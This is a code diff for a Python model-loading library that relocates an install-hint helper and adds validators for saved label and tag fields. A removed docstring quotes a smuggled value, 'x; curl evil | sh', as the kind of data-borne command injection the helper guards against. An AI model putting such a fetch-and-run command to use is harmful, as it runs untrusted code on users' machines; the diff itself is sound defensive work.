@@ -22,31 +22,17 @@ from __future__ import annotations
 import inspect
 import math
 import os
-import re
 from collections.abc import Callable, Mapping
 from pathlib import Path
 from typing import Any
 
 from zoo.errors import UsageError
+from zoo.loading.paths import DIST_RE, install_hint  # noqa: F401 - re-exported
 from zoo.registry.spec import InputSpec, ModelSpec
 
-# PEP 508 distribution names (https://peps.python.org/pep-0508/#names)
-DIST_RE = re.compile(r"^([A-Z0-9]|[A-Z0-9][A-Z0-9._-]*[A-Z0-9])$", re.IGNORECASE)
 MAX_INPUT_ELEMENTS = 1 << 26            # one sample of a saved input spec: 64 Mi values
 INPUT_DTYPES = ("float32", "float64", "float16", "bfloat16", "int64", "int32", "uint8")
 DAMAGED = "the directory is damaged or was not written by zoo; save or fetch it again"
-
-
-def install_hint(dist: Any) -> str:
-    """``"pip install DIST"`` when ``dist`` is a PEP 508 name, else ``""``.
-
-    Install advice built from data (a saved directory's ``plugin_distribution``) is shown
-    only when it is a plain distribution name: a value like ``x; curl evil | sh`` or
-    ``--index-url ...`` would otherwise reach a terminal as a command to copy.
-    """
-    if isinstance(dist, str) and DIST_RE.match(dist) and len(dist) <= 100:
-        return f"pip install {dist}"
-    return ""
 
 
 # -- builder kwargs from a saved directory ---------------------------------------------------
@@ -311,3 +297,26 @@ def saved_input(config: Mapping[str, Any], where: str) -> InputSpec | None:
         raise UsageError(bad.format("invert must be true or false"))
     return InputSpec(size=tuple(size), dtype=dtype, mean=stats["mean"], std=stats["std"],
                      interpolation=interp, invert=invert)
+
+
+def saved_labels(config: Mapping[str, Any], where: str) -> list[str] | None:
+    """The ``labels`` of a saved config: a list of distinct strings, or ``None``."""
+    labels = config.get("labels")
+    if labels is None:
+        return None
+    if not isinstance(labels, list) or not labels or len(labels) > 100_000 or not all(
+            isinstance(x, str) and 0 < len(x) <= 200 for x in labels):
+        raise UsageError(f"{where}: 'labels' must be a list of class names (strings), got "
+                         f"{_short(labels)}; {DAMAGED}")
+    if len(set(labels)) != len(labels):
+        raise UsageError(f"{where}: 'labels' names a class twice; {DAMAGED}")
+    return labels
+
+
+def saved_tag(config: Mapping[str, Any], spec: ModelSpec, where: str) -> str | None:
+    """The ``tag`` of a saved config: ``None`` or one of the catalog entry's tags."""
+    tag = config.get("tag")
+    if tag is None or (isinstance(tag, str) and tag in spec.pretrained):
+        return tag
+    raise UsageError(f"{where}: 'tag' {_short(tag)} is not a trained model of "
+                     f"'{spec.name}'; {DAMAGED}")
